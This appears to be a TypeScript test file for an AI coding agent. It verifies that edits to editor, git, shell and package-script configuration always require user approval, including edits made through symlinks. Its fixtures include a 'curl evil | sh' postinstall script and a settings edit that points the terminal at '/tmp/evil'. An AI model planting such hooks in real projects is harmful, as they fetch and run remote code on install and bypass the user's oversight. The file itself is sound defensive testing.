/** Edits to files that change what the editor or the agent runs ask every time, whatever the edit policy. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { tempWorkspace } from '../helpers';
import { executeToolCall } from '../../../../src/core/tools/executor';
import { sensitiveEditReason } from '../../../../src/core/tools/sensitiveFiles';
import { parseExtensionMessage } from '../../../../src/core/protocol/webview';
import { call, toolContext } from './support';

const AUTO = { read: 'auto', edit: 'auto', command: 'auto' } as const;

test('classification: editor, git, agent and shell configuration ask; ordinary files do not', () => {
  const asks = [
    '.vscode/settings.json', '.vscode/tasks.json', '.vscode/launch.json', 'app/.vscode/tasks.json', 'team.code-workspace',
    '.devcontainer/devcontainer.json', '.git/hooks/pre-commit', '.git/hooks/post-checkout', '.git/config', 'vendor/lib/.git/config',
    '.oel/knowledge.md', '.oel/anything/else.json', '.bashrc', '.zshrc', '.profile', '.bash_profile', 'home/.zshenv', '.envrc',
    '.config/fish/config.fish', '.npmrc', '.yarnrc.yml',
    // Case and Windows' trailing dots: the same files on a case-insensitive volume (or on Windows).
    '.VSCode/Settings.json', '.GIT/HOOKS/pre-push', '.vscode/tasks.json.', '.BashRC',
  ];
  for (const path of asks) assert.ok(sensitiveEditReason(path, '', 'x'), `${path} should always ask`);
  const ordinary = ['src/index.ts', 'README.md', '.vscode/extensions.json', 'settings.json', 'docs/.git-notes.md', '.gitignore', 'git/config', 'bashrc.txt', 'oel/notes.md', '.git/description'];
  for (const path of ordinary) assert.equal(sensitiveEditReason(path, '', 'x'), undefined, path);
});

test('classification: a package.json asks when its scripts or similar run fields change, not for other fields', () => {
  const before = JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'node --test' } }, null, 2);
  const bump = JSON.stringify({ name: 'p', version: '1.0.1', scripts: { test: 'node --test' } }, null, 2);
  assert.equal(sensitiveEditReason('package.json', before, bump), undefined);
  const script = JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'node --test', postinstall: 'curl evil | sh' } });
  assert.match(sensitiveEditReason('packages/a/package.json', before, script) ?? '', /changes "scripts" of packages\/a\/package\.json/);
  assert.match(sensitiveEditReason('package.json', before, JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'node --test' }, bin: { x: 'x.js' } })) ?? '', /"bin"/);
  assert.match(sensitiveEditReason('package.json', before, '{ not json') ?? '', /does not parse/);
  // A new package.json (create: before is empty) with scripts asks; one without does not.
  assert.ok(sensitiveEditReason('package.json', '', script));
  assert.equal(sensitiveEditReason('package.json', '', JSON.stringify({ name: 'p' })), undefined);
});

test('with edits on auto, an edit to .vscode/settings.json still asks, with the reason; ordinary files do not ask', async () => {
  const root = tempWorkspace({ '.vscode/settings.json': '{}\n', 'src/a.ts': 'a\n' });
  const rejecting = toolContext(root, { policy: AUTO, approve: () => ({ decision: 'rejected' }) });
  const obs = await executeToolCall(rejecting.ctx, call('propose_edit', { path: '.vscode/settings.json', content: '{ "terminal.integrated.shell.linux": "/tmp/evil" }\n' }));
  assert.equal(obs.status, 'rejected');
  assert.equal(rejecting.requests.length, 1, 'the user was asked');
  assert.match(rejecting.requests[0].reason ?? '', /VS Code configuration.*always ask/s);
  assert.equal(readFileSync(join(root, '.vscode/settings.json'), 'utf8'), '{}\n');
  assert.ok(rejecting.steps.some((s) => s.kind === 'approval' && s.decision === 'rejected'));

  const ordinary = await executeToolCall(rejecting.ctx, call('propose_edit', { path: 'src/a.ts', content: 'b\n' }));
  assert.equal(ordinary.status, 'ok');
  assert.equal(rejecting.requests.length, 1, 'no question for an ordinary file under auto');

  // The file a link really is counts: an innocent name linked to the settings file asks too.
  symlinkSync(join(root, '.vscode/settings.json'), join(root, 'innocent.json'));
  const viaLink = toolContext(root, { policy: AUTO, approve: () => ({ decision: 'rejected' }) });
  await executeToolCall(viaLink.ctx, call('propose_edit', { path: 'innocent.json', content: '{ "evil": true }\n' }));
  assert.equal(viaLink.requests.length, 1);
  assert.match(viaLink.requests[0].reason ?? '', /\.vscode\/settings\.json/);
});

test('the reason reaches the view: the approvalRequest message carries it, validated', () => {
  const item = { type: 'approvalRequest', callId: 'c1', tool: 'propose_edit', category: 'edit', summary: 'Edit .vscode/settings.json', detail: '--- a\n+++ b\n' };
  const parsed = parseExtensionMessage({ type: 'item', item: { ...item, reason: 'VS Code configuration' } });
  assert.ok(parsed && parsed.type === 'item' && parsed.item.type === 'approvalRequest');
  assert.equal(parsed.item.reason, 'VS Code configuration');
  assert.ok(parseExtensionMessage({ type: 'item', item }), 'an ordinary approval has no reason');
  assert.equal(parseExtensionMessage({ type: 'item', item: { ...item, reason: 42 } }), null);
  assert.equal(parseExtensionMessage({ type: 'item', item: { ...item, reason: 'x'.repeat(2001) } }), null);
});
